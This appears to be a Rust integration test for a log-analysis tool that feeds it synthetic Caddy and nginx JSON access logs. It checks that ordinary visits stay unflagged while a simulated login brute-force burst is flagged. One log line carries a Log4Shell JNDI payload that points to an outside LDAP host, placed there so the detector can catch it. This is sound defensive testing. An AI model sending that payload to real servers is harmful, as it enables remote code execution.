//! `opensoc scan` of JSON server logs as the servers write them (Caddy's access log, an nginx
//! `escape=json` layout): each record is read as the request it stands for, so the floors that
//! count requests and match exploit payloads hold on JSON as on the combined text layout. The
//! real binary and the real model.

use std::path::Path;

#[path = "common/cli.rs"]
mod cli;
use cli::{opensoc, stored, text};

/// `opensoc scan --json --db DB LOG`: the summary.
fn scan(db: &Path, log: &Path) -> serde_json::Value {
    opensoc::model::fetch::ensure_default_model(false).expect("default model");
    let out = opensoc()
        .args(["scan", "--json", "--db"])
        .arg(db)
        .arg(log)
        .output()
        .expect("run opensoc");
    serde_json::from_str(text(&out.stdout).trim())
        .unwrap_or_else(|e| panic!("one JSON object ({e}): {}", text(&out.stderr)))
}

/// A Caddy access record of `client` asking `method uri`, answered `status`, at second `t`.
fn caddy(t: u32, client: &str, method: &str, uri: &str, status: u16) -> String {
    format!(
        r#"{{"level":"info","ts":1795860{t:03}.412,"logger":"http.log.access.log0","msg":"handled request","request":{{"remote_ip":"{client}","remote_port":"51234","client_ip":"{client}","proto":"HTTP/1.1","method":"{method}","host":"shop.example.com","uri":"{uri}","headers":{{"User-Agent":["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"]}}}},"duration":0.0004,"size":512,"status":{status}}}"#
    )
}

/// An nginx `escape=json` record.
fn nginx(t: u32, client: &str, request: &str, status: u16) -> String {
    format!(
        r#"{{"time_iso8601":"2026-11-28T10:{:02}:{:02}+00:00","remote_addr":"{client}","request":"{request}","status":"{status}","body_bytes_sent":"153","http_referer":"","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","host":"www.example.com","hostname":"web1"}}"#,
        t / 60,
        t % 60
    )
}

#[test]
fn exploit_probes_and_login_bursts_in_json_access_logs_are_found() {
    let dir = tempfile::tempdir().expect("tempdir");
    let caddy_log = dir.path().join("caddy-access.log");
    let mut lines: Vec<String> = (0..6)
        .map(|i| {
            caddy(
                i * 7,
                "198.51.100.20",
                "GET",
                &format!("/products/{i}"),
                200,
            )
        })
        .collect();
    // A Log4Shell probe among ordinary visits.
    lines.push(caddy(
        50,
        "203.0.113.77",
        "GET",
        "/?x=${jndi:ldap://203.0.113.77:1389/a}",
        404,
    ));
    std::fs::write(&caddy_log, lines.join("\n") + "\n").expect("write");
    let nginx_log = dir.path().join("nginx-access.json");
    let burst: Vec<String> = (0..30)
        .map(|i| nginx(i, "203.0.113.9", "POST /wp-login.php HTTP/1.1", 401))
        .collect();
    std::fs::write(&nginx_log, burst.join("\n") + "\n").expect("write");

    let db = dir.path().join("v.db");
    let summary = scan(&db, &caddy_log);
    assert_eq!(summary["records_by_format"]["json"], 7, "{summary}");
    let summary = scan(&db, &nginx_log);
    assert_eq!(summary["records_by_format"]["json"], 30, "{summary}");

    let verdicts = stored(&db);
    let of = |client: &str| {
        verdicts
            .iter()
            .filter(|v| v["entity"].as_str().is_some_and(|e| e.ends_with(client)))
            .collect::<Vec<_>>()
    };
    // The exploit floor read the JSON record's request: at least HIGH, with the CVE named (the
    // model may name a class above the floor, which the floor then confirms).
    let probe = of("203.0.113.77");
    assert!(
        probe.iter().any(
            |v| matches!(v["severity"].as_str(), Some("HIGH" | "CRITICAL"))
                && v["evidence"]
                    .as_str()
                    .unwrap_or("")
                    .contains("CVE-2021-44228")
                && v["input"]
                    .as_str()
                    .unwrap_or("")
                    .starts_with("203.0.113.77 - - [")
        ),
        "{probe:#?}"
    );
    let burst = of("203.0.113.9");
    assert!(
        burst.iter().any(|v| v["threat_type"]
            .as_str()
            .is_some_and(|t| t.starts_with("Brute Force Attack"))
            && v["severity"] == "HIGH"),
        "{burst:#?}"
    );
    // The ordinary visitor stays unflagged.
    let visitor = of("198.51.100.20");
    assert!(
        visitor.iter().all(|v| v["severity"] == "LOW"),
        "{visitor:#?}"
    );
}
